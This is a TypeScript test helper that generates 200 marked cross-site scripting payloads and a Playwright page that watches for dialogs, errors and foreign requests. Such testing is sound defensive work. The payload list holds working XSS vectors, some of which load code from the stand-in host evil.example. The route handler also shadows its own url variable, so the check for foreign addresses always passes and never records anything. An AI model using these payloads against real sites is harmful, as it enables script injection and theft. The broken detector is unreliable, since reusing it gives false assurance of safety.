// Two hundred hostile texts, each with a number of its own that says where it went.

import type { BrowserContext } from 'playwright-core';

/** What a text may begin with to leave the place where it stands. */
const leaving = ['', '">', "'>", '</title></textarea></style></script>', '-->'];

/** What would then run, with a number that says which of them did. */
const running: readonly ((n: string) => string)[] = [
  (n) => `<script>alert(${n})</script>`,
  (n) => `<script src=https://evil.example/${n}></script>`,
  (n) => `<img src=x onerror=alert(${n})>`,
  (n) => `<img src=https://evil.example/${n}.png>`,
  (n) => `<svg/onload=alert(${n})>`,
  (n) => `<svg><script>alert(${n})</script></svg>`,
  (n) => `<svg><animate onbegin=alert(${n}) attributeName=x dur=1s>`,
  (n) => `<math><mtext><style><img title="</style><img src=x onerror=alert(${n})>">`,
  (n) => `<iframe srcdoc="<script>parent.alert(${n})</script>"></iframe>`,
  (n) => `<iframe src=javascript:alert(${n})></iframe>`,
  (n) => `<object data=https://evil.example/${n}></object>`,
  (n) => `<embed src=https://evil.example/${n}>`,
  (n) => `<link rel=stylesheet href=https://evil.example/${n}.css>`,
  (n) => `<style>@import url(https://evil.example/${n}.css)</style>`,
  (n) => `<meta http-equiv=refresh content="0;url=https://evil.example/${n}">`,
  (n) => `<base href=https://evil.example/${n}/>`,
  (n) => `<form action=https://evil.example/${n}><input autofocus onfocus=alert(${n})>`,
  (n) => `<details open ontoggle=alert(${n})>`,
  (n) => `<video><source onerror=alert(${n})></video>`,
  (n) => `<audio src=x onerror=alert(${n})>`,
  (n) => `<body onload=alert(${n})>`,
  (n) => `<a href=javascript:alert(${n}) autofocus onfocus=alert(${n})>x</a>`,
  (n) => `<a href="java&#x09;script:alert(${n})">x</a>`,
  (n) => `" autofocus onfocus=alert(${n}) x="`,
  (n) => `' autofocus onfocus='alert(${n})`,
  (n) => `\` onmouseover=alert(${n}) \``,
  (n) => `&lt;script&gt;alert(${n})&lt;/script&gt;`,
  (n) => `&#60;img src=x onerror=alert(${n})&#62;`,
  (n) => `%3Cscript%3Ealert(${n})%3C/script%3E`,
  (n) => `\\u003cscript\\u003ealert(${n})\\u003c/script\\u003e`,
  (n) => `{{constructor.constructor('alert(${n})')()}}`,
  (n) => `\${alert(${n})}<%= alert(${n}) %>`,
  (n) => `<!--<img src="--><img src=x onerror=alert(${n})//">`,
  (n) => `<![CDATA[<script>alert(${n})</script>]]>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=alert(${n})>">`,
  (n) => `<template><img src=x onerror=alert(${n})></template>`,
  (n) => `<xmp><img src=x onerror=alert(${n})></xmp>`,
  (n) => `[x](javascript:alert(${n}))![x](https://evil.example/${n}.png)`,
  (n) => `<scr<script>ipt>alert(${n})</scr</script>ipt>`,
  (n) => `<custom-x onclick=alert(${n}) style="animation:x" onanimationstart=alert(${n})>`,
];

export const marker = (at: number) => `${7_000_000 + at}`;
export const payloads = leaving.flatMap((leave, row) =>
  running.map((run, column) => leave + run(marker(row * running.length + column))),
);

export interface Alive {
  readonly text: string;
  /** Elements that would run, or that no page of the site has. */
  readonly alive: readonly string[];
}

/** A page of a real browser, watched for whatever a hostile text could do: dialogs, errors, foreign addresses. */
export async function watchedPage(context: BrowserContext, url: string) {
  const happened: string[] = [];
  await context.route('**/*', async (route) => {
    const url = route.request().url();
    if (url.startsWith(url) || url.startsWith('data:')) return route.continue();
    happened.push(`asks ${url}`);
    return route.abort();
  });
  const page = await context.newPage();
  page.on('dialog', async (dialog) => {
    happened.push(`dialog ${dialog.message()}`);
    await dialog.dismiss();
  });
  page.on('pageerror', (error) => happened.push(`error ${error.message}`));
  page.on('console', (message) => {
    if (/Content Security Policy|Refused to/i.test(message.text())) happened.push(message.text());
  });
  const aliveOn = async (path: string): Promise<Alive> => {
    await page.goto(url + path, { waitUntil: 'load' });
    return (await page.evaluate(`({
      text: document.documentElement.outerHTML,
      alive: [...document.querySelectorAll('*')].filter((one) =>
        [...one.attributes].some(({ name, value }) => name.startsWith('on') || /^\\s*javascript:/i.test(value)) ||
        (one.localName === 'script' && one.type !== 'application/ld+json' && !one.src.startsWith(${JSON.stringify(url)})) ||
        ['iframe', 'object', 'embed', 'base', 'video', 'audio', 'xmp', 'template', 'custom-x'].includes(one.localName))
        .map((one) => one.outerHTML.slice(0, 200)),
    })`)) as Alive;
  };
  return { page, happened, aliveOn };
}
